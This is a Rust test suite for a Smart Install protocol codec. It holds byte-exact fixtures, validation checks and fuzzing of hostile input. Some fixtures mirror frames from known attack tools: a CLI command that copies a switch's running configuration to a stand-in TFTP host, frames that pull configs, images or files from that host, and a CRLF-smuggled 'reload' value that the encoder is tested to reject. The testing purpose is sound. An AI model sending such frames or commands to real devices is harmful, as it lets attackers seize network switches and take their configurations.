//! Unit tests of the SMI codec: the byte-exact examples of
//! `docs/smi-protocol.md`, the checks on every field, and hostile input.

use super::*;

/// Expands a `hexdump -C` listing: a `*` line repeats the previous line up
/// to the next printed offset, and the last line is the total length.
fn from_hexdump(dump: &str) -> Vec<u8> {
    let mut out: Vec<u8> = Vec::new();
    let mut last_line: Vec<u8> = Vec::new();
    let mut repeating = false;
    for line in dump.lines().map(str::trim).filter(|l| !l.is_empty()) {
        if line == "*" {
            repeating = true;
            continue;
        }
        let hex_part = line.split('|').next().unwrap();
        let mut tokens = hex_part.split_whitespace();
        let offset = usize::from_str_radix(tokens.next().unwrap(), 16).unwrap();
        if repeating {
            while out.len() < offset {
                out.extend_from_slice(&last_line);
            }
            repeating = false;
        }
        assert_eq!(out.len(), offset, "offset mismatch at line {line:?}");
        last_line = tokens.map(|t| u8::from_str_radix(t, 16).unwrap()).collect();
        out.extend_from_slice(&last_line);
    }
    out
}

fn from_hex(text: &str) -> Vec<u8> {
    let digits: String = text.split_whitespace().collect();
    hex::decode(digits).unwrap()
}

/// Every frame in the document satisfies total − 16 == w3.
fn assert_w3_matches(frame: &[u8]) {
    let header = Header::decode(frame.first_chunk::<HEADER_LEN>().unwrap());
    assert_eq!(frame.len() - HEADER_LEN, header.payload_len as usize);
}

fn round_trip(message: &Message, frame: &[u8]) {
    assert_w3_matches(frame);
    assert_eq!(message.encode().unwrap(), frame, "encoding of {message:?}");
    assert_eq!(&decode(frame).unwrap(), message);
}

// Section 2.
const PROBE: &str = "00000001 00000001 00000004 00000008  00000001 00000000";
const REPLY: &str = "00000004 00000000 00000003 00000008  00000001 00000000";
// Section 3.
const GREENBONE_PROBE: &str = "00000001 00000001 00000003 00000001  00";
const REJECT: &str = "00000004 00000000 00000004 00000004  00000001";

// Section 5.1, reload after 00:01.
const CONFIG_UPGRADE_DUMP: &str = "
00000000  00 00 00 01 00 00 00 01  00 00 00 03 00 00 01 28  |...............(|
00000010  00 00 00 03 00 00 00 00  00 00 00 00 00 00 00 02  |................|
00000020  00 00 00 00 00 00 00 01  00 00 00 00 00 00 00 01  |................|
00000030  00 00 00 00 00 00 00 00  00 00 00 00 00 00 00 00  |................|
*
000000b0  00 00 00 00 74 66 74 70  3a 2f 2f 31 39 32 2e 30  |....tftp://192.0|
000000c0  2e 32 2e 31 2f 78 2e 63  66 67 00 00 00 00 00 00  |.2.1/x.cfg......|
000000d0  00 00 00 00 00 00 00 00  00 00 00 00 00 00 00 00  |................|
*
00000130  00 00 00 00 00 00 00 00                           |........|
00000138
";

// Section 5.2, immediate form.
const IMAGE_UPGRADE_DUMP: &str = "
00000000  00 00 00 01 00 00 00 01  00 00 00 02 00 00 01 c4  |................|
00000010  00 00 00 02 00 00 08 21  00 00 00 00 00 00 00 00  |.......!........|
00000020  00 00 00 01 00 00 00 00  00 00 00 00 00 00 00 00  |................|
00000030  00 00 00 01 74 66 74 70  3a 2f 2f 31 39 32 2e 30  |....tftp://192.0|
00000040  2e 32 2e 31 2f 69 6d 61  67 65 6c 69 73 74 2e 74  |.2.1/imagelist.t|
00000050  78 74 00 00 00 00 00 00  00 00 00 00 00 00 00 00  |xt..............|
00000060  00 00 00 00 00 00 00 00  00 00 00 00 00 00 00 00  |................|
*
000001d0  00 00 00 01                                       |....|
000001d4
";

// Section 5.2, bytes 0x14..0x30 of the timed form at 01:30.
const IMAGE_TIMED_WORDS: &str = "00 00 08 01  00 00 00 00  00 00 00 00  00 00 00 00
    00 00 00 01  00 00 00 01  00 00 00 1e";

// Section 5.4.
const EXECUTE_FILE_DUMP: &str = "
00000000  00 00 00 02 00 00 00 01  00 00 00 05 00 00 02 10  |................|
00000010  00 00 00 01 00 00 00 00  00 00 00 00 00 00 00 00  |................|
00000020  00 00 00 00 00 00 00 00  00 00 00 00 00 00 00 00  |................|
*
00000190  00 00 00 00 00 00 00 00  00 00 00 00 74 66 74 70  |............tftp|
000001a0  3a 2f 2f 31 39 32 2e 30  2e 32 2e 31 2f 78 2e 74  |://192.0.2.1/x.t|
000001b0  78 74 00 00 00 00 00 00  00 00 00 00 00 00 00 00  |xt..............|
000001c0  00 00 00 00 00 00 00 00  00 00 00 00 00 00 00 00  |................|
*
00000210  00 00 00 00 00 00 00 00  00 00 00 00 00 00 00 01  |................|
00000220
";

// Section 5.5, MSF shape.
const RUN_CLI_DUMP: &str = "
00000000  00 00 00 01 00 00 00 01  00 00 00 08 00 00 04 08  |................|
00000010  00 01 00 14 00 00 00 01  00 00 00 00 fc 99 47 37  |..............G7|
00000020  86 60 00 00 00 03 03 f4  63 6f 70 79 20 73 79 73  |.`......copy sys|
00000030  74 65 6d 3a 72 75 6e 6e  69 6e 67 2d 63 6f 6e 66  |tem:running-conf|
00000040  69 67 20 74 66 74 70 3a  2f 2f 31 39 32 2e 30 2e  |ig tftp://192.0.|
00000050  32 2e 31 2f 78 2e 63 66  67 00 00 00 00 00 00 00  |2.1/x.cfg.......|
00000060  00 00 00 00 00 00 00 00  00 00 00 00 00 00 00 00  |................|
*
00000410  00 00 00 00 00 00 00 00                           |........|
00000418
";

// Section 5.5, Papathanasiou's one-slot prefix; the 336-byte slot follows.
const RUN_CLI_ONE_SLOT_PREFIX: &str = "00000001 00000001 00000008 00000168
    0001 0014 00000001 00000000 0021d863a560 0000  0002 0154";
const PAPATHANASIOU_COMMAND: &str = "configure tftp-server nvram:startup-config";

/// Section 5.6: type 0x0a, 52 × ff, 555cca68, 16 × 00, ffffffff 00000001.
fn papathanasiou_0a() -> Vec<u8> {
    let mut frame = from_hex("00000001 00000001 0000000a 00000050");
    frame.extend([0xff; 52]);
    frame.extend(from_hex("555cca68"));
    frame.extend([0; 16]);
    frame.extend(from_hex("ffffffff 00000001"));
    frame
}

/// Section 7: Embedi's type-7 shape with filler bytes only: w3 = 216 covers
/// just the TLV-1 value, then a 32/32 TLV header, the value and 2 KiB trailer.
fn embedi_type7() -> Vec<u8> {
    let mut frame = from_hex("00000001 00000001 00000007 000000d8  00000001 000000d8");
    frame.extend([0x41; 0xd8]);
    frame.extend([0x42; 2048]);
    frame
}

/// Section 1: a probe shaped like nmap's Firebird one (w1 = 0x13), filler payload.
fn firebird_like() -> Vec<u8> {
    let mut frame = from_hex("00000001 00000013 00000002 00000024  0000001c");
    frame.extend(b"/opt/example/path/to/a/db.fdb");
    frame.resize(16 + 0x24 + 16, 0);
    frame
}

fn one_slot_frame() -> Vec<u8> {
    let mut frame = from_hex(RUN_CLI_ONE_SLOT_PREFIX);
    let mut slot = PAPATHANASIOU_COMMAND.as_bytes().to_vec();
    slot.resize(CLI_SLOT_WIDTH, 0);
    frame.extend(slot);
    frame
}

fn timed_image_frame() -> Vec<u8> {
    let mut frame = from_hexdump(IMAGE_UPGRADE_DUMP);
    let words = from_hex(IMAGE_TIMED_WORDS);
    frame.splice(0x14..0x30, words);
    frame
}

fn all_valid_frames() -> Vec<Vec<u8>> {
    vec![
        from_hex(PROBE),
        from_hex(REPLY),
        from_hex(REJECT),
        from_hexdump(CONFIG_UPGRADE_DUMP),
        from_hexdump(IMAGE_UPGRADE_DUMP),
        timed_image_frame(),
        from_hexdump(EXECUTE_FILE_DUMP),
        from_hexdump(RUN_CLI_DUMP),
        one_slot_frame(),
        papathanasiou_0a(),
    ]
}

#[test]
fn hexdump_expansion_gives_documented_lengths() {
    assert_eq!(from_hexdump(CONFIG_UPGRADE_DUMP).len(), 0x138);
    assert_eq!(from_hexdump(IMAGE_UPGRADE_DUMP).len(), 0x1d4);
    assert_eq!(from_hexdump(EXECUTE_FILE_DUMP).len(), 0x220);
    assert_eq!(from_hexdump(RUN_CLI_DUMP).len(), 0x418);
    assert_eq!(one_slot_frame().len(), 376);
    assert_eq!(papathanasiou_0a().len(), 96);
}

#[test]
fn header_round_trips() {
    let bytes: [u8; 16] = from_hex(PROBE)[..16].try_into().unwrap();
    let header = Header::decode(&bytes);
    assert_eq!(
        header,
        Header {
            from: 1,
            version: 1,
            msg_type: 4,
            payload_len: 8
        }
    );
    assert_eq!(header.encode(), bytes);
}

#[test]
fn probe_reply_and_reject_match_the_document() {
    round_trip(&Message::Probe, &from_hex(PROBE));
    round_trip(&Message::ClientReply, &from_hex(REPLY));
    round_trip(&Message::Reject, &from_hex(REJECT));
    assert_eq!(from_hex(PROBE).len(), 24);
    assert_eq!(from_hex(REJECT).len(), 20);
}

#[test]
fn probe_tolerates_one_trailing_byte_only() {
    let mut msf = from_hex(PROBE);
    msf.push(b'\n');
    assert_eq!(msf.len(), 25);
    assert_eq!(decode(&msf), Ok(Message::Probe));
    msf.push(b'\n');
    assert!(matches!(
        decode(&msf),
        Err(CodecError::TrailingBytes { count: 2, .. })
    ));
    let mut reply = from_hex(REPLY);
    reply.push(b'\n');
    assert!(matches!(
        decode(&reply),
        Err(CodecError::TrailingBytes { count: 1, .. })
    ));
}

#[test]
fn config_upgrade_matches_the_document() {
    let siet = from_hexdump(CONFIG_UPGRADE_DUMP);
    let message = Message::ConfigUpgrade {
        url: "tftp://192.0.2.1/x.cfg".into(),
        reload: Some(ReloadTime {
            hours: 0,
            minutes: 1,
        }),
    };
    round_trip(&message, &siet);

    // The Talos (no reload) form differs only at 0x27 and 0x2f.
    let mut talos = siet;
    talos[0x27] = 0;
    talos[0x2f] = 0;
    let message = Message::ConfigUpgrade {
        url: "tftp://192.0.2.1/x.cfg".into(),
        reload: None,
    };
    round_trip(&message, &talos);
}

#[test]
fn image_upgrade_matches_the_document() {
    let url = "tftp://192.0.2.1/imagelist.txt".to_string();
    let immediate = Message::ImageUpgrade {
        url: url.clone(),
        reload: ImageReload::Immediate,
    };
    round_trip(&immediate, &from_hexdump(IMAGE_UPGRADE_DUMP));
    let timed = Message::ImageUpgrade {
        url,
        reload: ImageReload::At(ReloadTime {
            hours: 1,
            minutes: 30,
        }),
    };
    round_trip(&timed, &timed_image_frame());
}

#[test]
fn execute_file_matches_the_document() {
    let message = Message::ExecuteFile {
        url: "tftp://192.0.2.1/x.txt".into(),
    };
    round_trip(&message, &from_hexdump(EXECUTE_FILE_DUMP));
}

#[test]
fn run_cli_matches_the_document() {
    let msf = Message::RunCli {
        mac: DEFAULT_CLI_MAC,
        block: CommandBlock::ThreeSlots,
        commands: vec!["copy system:running-config tftp://192.0.2.1/x.cfg".into()],
    };
    round_trip(&msf, &from_hexdump(RUN_CLI_DUMP));

    let papathanasiou = Message::RunCli {
        mac: [0x00, 0x21, 0xd8, 0x63, 0xa5, 0x60],
        block: CommandBlock::OneSlot,
        commands: vec![PAPATHANASIOU_COMMAND.into()],
    };
    round_trip(&papathanasiou, &one_slot_frame());
}

#[test]
fn run_cli_three_commands_round_trip() {
    let message = Message::RunCli {
        mac: DEFAULT_CLI_MAC,
        block: CommandBlock::ThreeSlots,
        commands: vec![
            "copy system:running-config flash:/config.text".into(),
            "copy flash:/config.text tftp://192.0.2.1/a.conf".into(),
            "show version".into(),
        ],
    };
    let frame = message.encode().unwrap();
    assert_eq!(frame.len(), 1048);
    round_trip(&message, &frame);
}

#[test]
fn unknown_messages_round_trip() {
    let frame = papathanasiou_0a();
    let message = decode(&frame).unwrap();
    assert!(matches!(&message, Message::Unknown { header, payload }
        if header.msg_type == 0x0a && payload.len() == 80));
    round_trip(&message, &frame);
}

#[test]
fn scanner_probes_are_refused_or_unknown() {
    assert!(matches!(
        decode(&from_hex(GREENBONE_PROBE)),
        Err(CodecError::WrongLength {
            message: "config upgrade",
            len: 1,
            ..
        })
    ));
    assert!(matches!(
        decode(&embedi_type7()),
        Err(CodecError::TrailingBytes { .. })
    ));
    let header = Header::decode(embedi_type7().first_chunk().unwrap());
    assert_eq!(payload_len(&header, PAYLOAD_CAP), Ok(216));
    assert!(matches!(
        decode(&firebird_like()),
        Err(CodecError::TrailingBytes { .. })
    ));
    let firebird = firebird_like();
    let (head, rest) = firebird.split_first_chunk::<16>().unwrap();
    let header = Header::decode(head);
    assert!(matches!(
        decode_parts(&header, &rest[..0x24]),
        Ok(Message::Unknown { .. })
    ));
}

#[test]
fn payload_len_enforces_exact_sizes_and_cap() {
    let header = |from, version, msg_type, payload_len| Header {
        from,
        version,
        msg_type,
        payload_len,
    };
    assert_eq!(payload_len(&header(1, 1, 8, 1032), PAYLOAD_CAP), Ok(1032));
    assert_eq!(payload_len(&header(1, 1, 8, 360), PAYLOAD_CAP), Ok(360));
    assert!(matches!(
        payload_len(&header(1, 1, 8, 1033), PAYLOAD_CAP),
        Err(CodecError::WrongLength { .. })
    ));
    assert!(matches!(
        payload_len(&header(2, 1, 5, 0xd2), PAYLOAD_CAP),
        Err(CodecError::WrongLength { .. })
    ));
    assert_eq!(payload_len(&header(9, 9, 9, 4096), PAYLOAD_CAP), Ok(4096));
    assert!(matches!(
        payload_len(&header(9, 9, 9, 4097), PAYLOAD_CAP),
        Err(CodecError::TooLong {
            len: 4097,
            cap: 4096
        })
    ));
    assert!(matches!(
        payload_len(&header(9, 9, 9, u32::MAX), PAYLOAD_CAP),
        Err(CodecError::TooLong { .. })
    ));
    assert!(matches!(
        payload_len(&header(1, 1, 8, 1032), 100),
        Err(CodecError::TooLong {
            len: 1032,
            cap: 100
        })
    ));
}

#[test]
fn decode_parts_requires_the_declared_length() {
    let frame = from_hex(PROBE);
    let (head, payload) = frame.split_first_chunk::<16>().unwrap();
    let header = Header::decode(head);
    assert_eq!(decode_parts(&header, payload), Ok(Message::Probe));
    assert!(matches!(
        decode_parts(&header, &payload[..4]),
        Err(CodecError::LengthMismatch {
            declared: 8,
            got: 4
        })
    ));
}

#[test]
fn string_fields_are_checked_on_decode() {
    let base = from_hexdump(CONFIG_UPGRADE_DUMP);
    let url_start = 0xb4;

    let mut unterminated = base.clone();
    unterminated[url_start..].fill(b'a');
    assert!(matches!(
        decode(&unterminated),
        Err(CodecError::StringUnterminated { width: 132, .. })
    ));

    let mut not_printable = base.clone();
    not_printable[url_start + 3] = b'\n';
    assert!(matches!(
        decode(&not_printable),
        Err(CodecError::StringNotPrintable {
            position: 3,
            byte: b'\n',
            ..
        })
    ));

    let mut padding = base.clone();
    padding[0x137] = b'x';
    assert!(matches!(
        decode(&padding),
        Err(CodecError::StringPadding { position: 131, .. })
    ));

    let mut longest = base.clone();
    longest[url_start..0x137].fill(b'a');
    let Ok(Message::ConfigUpgrade { url, .. }) = decode(&longest) else {
        panic!("a 131-byte URL decodes");
    };
    assert_eq!(url.len(), CONFIG_URL_MAX);

    let mut reserved = base;
    reserved[0x40] = 1;
    assert!(matches!(
        decode(&reserved),
        Err(CodecError::ReservedNotZero { offset: 0x30, .. })
    ));
}

#[test]
fn constants_and_flags_are_checked_on_decode() {
    let mut frame = from_hexdump(CONFIG_UPGRADE_DUMP);
    frame[0x13] = 4;
    assert!(matches!(
        decode(&frame),
        Err(CodecError::UnexpectedWord {
            offset: 0x10,
            found: 4,
            expected: 3,
            ..
        })
    ));

    let mut frame = from_hexdump(CONFIG_UPGRADE_DUMP);
    frame[0x27] = 2;
    assert!(matches!(
        decode(&frame),
        Err(CodecError::NotAFlag {
            offset: 0x24,
            found: 2,
            ..
        })
    ));

    let mut frame = from_hexdump(CONFIG_UPGRADE_DUMP);
    frame[0x2f] = 60;
    assert!(matches!(
        decode(&frame),
        Err(CodecError::BadReloadTime {
            hours: 0,
            minutes: 60
        })
    ));

    let mut frame = from_hexdump(IMAGE_UPGRADE_DUMP);
    frame[0x17] = 0x22;
    assert!(matches!(
        decode(&frame),
        Err(CodecError::UnknownImageFlags { found: 0x822 })
    ));

    let mut frame = from_hexdump(IMAGE_UPGRADE_DUMP);
    frame[0x1d3] = 0;
    assert!(matches!(
        decode(&frame),
        Err(CodecError::UnexpectedByte {
            offset: 0x1d3,
            found: 0,
            expected: 1,
            ..
        })
    ));
}

#[test]
fn run_cli_tlvs_are_checked_on_decode() {
    let base = from_hexdump(RUN_CLI_DUMP);

    let mut short = base.clone();
    short[0x13] = 3;
    assert!(matches!(
        decode(&short),
        Err(CodecError::TlvTooShort {
            offset: 0x10,
            len: 3
        })
    ));

    let mut overrun = base.clone();
    overrun[0x26..0x28].copy_from_slice(&[0x03, 0xf5]);
    assert!(matches!(
        decode(&overrun),
        Err(CodecError::TlvOverrun {
            offset: 0x24,
            len: 0x3f5
        })
    ));

    let mut wrong_type = base.clone();
    wrong_type[0x25] = 7;
    assert!(matches!(
        decode(&wrong_type),
        Err(CodecError::UnexpectedTlv {
            offset: 0x24,
            tlv_type: 7,
            len: 0x3f4
        })
    ));

    let mut one_slot_claim = base.clone();
    one_slot_claim[0x25] = 2;
    assert!(matches!(
        decode(&one_slot_claim),
        Err(CodecError::UnexpectedTlv { tlv_type: 2, .. })
    ));

    let mut gap = base.clone();
    gap[0x28 + 2 * CLI_SLOT_WIDTH] = b'x';
    gap[0x28..0x28 + 49].fill(0);
    assert!(matches!(
        decode(&gap),
        Err(CodecError::CommandGap { slot: 1 })
    ));

    let mut empty = base;
    empty[0x28..0x28 + 49].fill(0);
    assert!(matches!(
        decode(&empty),
        Err(CodecError::CommandCount { count: 0, max: 3 })
    ));
}

#[test]
fn encoders_refuse_unsafe_or_oversized_input() {
    let config = |url: &str| Message::ConfigUpgrade {
        url: url.into(),
        reload: None,
    };
    assert!(config(&"a".repeat(CONFIG_URL_MAX)).encode().is_ok());
    assert!(matches!(
        config(&"a".repeat(CONFIG_URL_MAX + 1)).encode(),
        Err(CodecError::Unsafe {
            field: "config URL",
            reason: UnsafeText::TooLong { len: 132, max: 131 }
        })
    ));
    assert!(matches!(
        config("tftp://x/a b").encode(),
        Err(CodecError::Unsafe {
            reason: UnsafeText::Space(10),
            ..
        })
    ));
    assert!(matches!(
        config("").encode(),
        Err(CodecError::Unsafe {
            reason: UnsafeText::Empty,
            ..
        })
    ));

    let timed = Message::ConfigUpgrade {
        url: "tftp://x/a".into(),
        reload: Some(ReloadTime {
            hours: 24,
            minutes: 0,
        }),
    };
    assert!(matches!(
        timed.encode(),
        Err(CodecError::BadReloadTime { hours: 24, .. })
    ));

    let execute = Message::ExecuteFile {
        url: "tftp://x/a\r\nreload".into(),
    };
    assert!(matches!(
        execute.encode(),
        Err(CodecError::Unsafe {
            reason: UnsafeText::CarriageReturn(10),
            ..
        })
    ));

    let cli = |commands: Vec<&str>, block| Message::RunCli {
        mac: DEFAULT_CLI_MAC,
        block,
        commands: commands.into_iter().map(String::from).collect(),
    };
    assert!(matches!(
        cli(vec![], CommandBlock::ThreeSlots).encode(),
        Err(CodecError::CommandCount { count: 0, max: 3 })
    ));
    assert!(matches!(
        cli(vec!["a", "b"], CommandBlock::OneSlot).encode(),
        Err(CodecError::CommandCount { count: 2, max: 1 })
    ));
    assert!(matches!(
        cli(vec!["show version", ""], CommandBlock::ThreeSlots).encode(),
        Err(CodecError::Unsafe {
            field: "command slot 2",
            reason: UnsafeText::Empty
        })
    ));
    assert!(matches!(
        cli(vec!["username \"x\""], CommandBlock::ThreeSlots).encode(),
        Err(CodecError::Unsafe {
            reason: UnsafeText::DoubleQuote(9),
            ..
        })
    ));
    let longest = "a".repeat(CLI_COMMAND_MAX);
    assert!(
        cli(vec![&longest], CommandBlock::ThreeSlots)
            .encode()
            .is_ok()
    );

    let unknown = Message::Unknown {
        header: Header {
            from: 9,
            version: 9,
            msg_type: 9,
            payload_len: 3,
        },
        payload: vec![1, 2],
    };
    assert!(matches!(
        unknown.encode(),
        Err(CodecError::LengthMismatch {
            declared: 3,
            got: 2
        })
    ));
}

#[test]
fn cli_safe_names_the_problem() {
    assert_eq!(cli_safe("show version", 100), Ok("show version"));
    assert_eq!(cli_safe("", 100), Err(UnsafeText::Empty));
    assert_eq!(
        cli_safe("abcd", 3),
        Err(UnsafeText::TooLong { len: 4, max: 3 })
    );
    assert_eq!(cli_safe("a\rb", 9), Err(UnsafeText::CarriageReturn(1)));
    assert_eq!(cli_safe("a\nb", 9), Err(UnsafeText::LineFeed(1)));
    assert_eq!(
        cli_safe("a\tb", 9),
        Err(UnsafeText::Control { at: 1, byte: 9 })
    );
    assert_eq!(
        cli_safe("a\x7f", 9),
        Err(UnsafeText::Control { at: 1, byte: 0x7f })
    );
    assert_eq!(cli_safe("a\"b", 9), Err(UnsafeText::DoubleQuote(1)));
    assert_eq!(cli_safe("a'b", 9), Err(UnsafeText::SingleQuote(1)));
    assert_eq!(cli_safe("aé", 9), Err(UnsafeText::NonAscii(1)));
    assert_eq!(url_safe("tftp://192.0.2.1/x", 99), Ok("tftp://192.0.2.1/x"));
    assert_eq!(url_safe("tftp://a b", 99), Err(UnsafeText::Space(8)));
    assert_eq!(url_safe("tftp://a\"", 99), Err(UnsafeText::DoubleQuote(8)));
}

/// A small deterministic generator (xorshift64*), so the test needs no crate.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn bytes(&mut self, len: usize) -> Vec<u8> {
        (0..len).map(|_| self.next() as u8).collect()
    }
}

/// Decodes `frame` both ways; neither may panic, and whatever decodes and
/// re-encodes must decode to the same message.
fn exercise(frame: &[u8]) {
    let whole = decode(frame);
    if let Some((head, rest)) = frame.split_first_chunk::<HEADER_LEN>() {
        let header = Header::decode(head);
        assert_eq!(&header.encode(), head);
        let len = payload_len(&header, PAYLOAD_CAP);
        if let Some(payload) = len.ok().and_then(|len| rest.get(..len)) {
            let parts = decode_parts(&header, payload);
            if payload.len() == rest.len() {
                assert_eq!(parts, whole);
            }
        }
    }
    if let Some(encoded) = whole.as_ref().ok().and_then(|m| m.encode().ok()) {
        assert_eq!(decode(&encoded).as_ref(), whole.as_ref());
    }
}

#[test]
fn never_panics_on_hostile_input() {
    let mut frames = all_valid_frames();
    frames.extend([
        from_hex(GREENBONE_PROBE),
        embedi_type7(),
        firebird_like(),
        Vec::new(),
    ]);
    for frame in &frames {
        for end in 0..=frame.len() {
            exercise(&frame[..end]);
        }
        let mut longer = frame.clone();
        longer.extend([0u8; 3]);
        exercise(&longer);
    }

    let mut rng = Rng(0x5eed_1234_abcd_0001);
    let exact_lens = [0usize, 1, 4, 8, 296, 360, 452, 528, 1032, 4096, 4097];
    for _ in 0..300 {
        // Random bytes of random length.
        let len = rng.below(1200);
        exercise(&rng.bytes(len));

        // A known header triple with a plausible length and a random payload.
        let triple = [
            (1, 1, 4),
            (4, 0, 3),
            (4, 0, 4),
            (1, 1, 3),
            (1, 1, 2),
            (2, 1, 5),
            (1, 1, 8),
        ][rng.below(7)];
        let w3 = exact_lens[rng.below(exact_lens.len())];
        let mut frame = Header {
            from: triple.0,
            version: triple.1,
            msg_type: triple.2,
            payload_len: w3 as u32,
        }
        .encode()
        .to_vec();
        frame.extend(rng.bytes(w3));
        exercise(&frame);

        // A valid frame with a few bytes flipped.
        let mut mutated = frames[rng.below(frames.len())].clone();
        for _ in 0..=rng.below(4) {
            if !mutated.is_empty() {
                let at = rng.below(mutated.len());
                mutated[at] ^= 1 << rng.below(8);
            }
        }
        exercise(&mutated);
    }
}
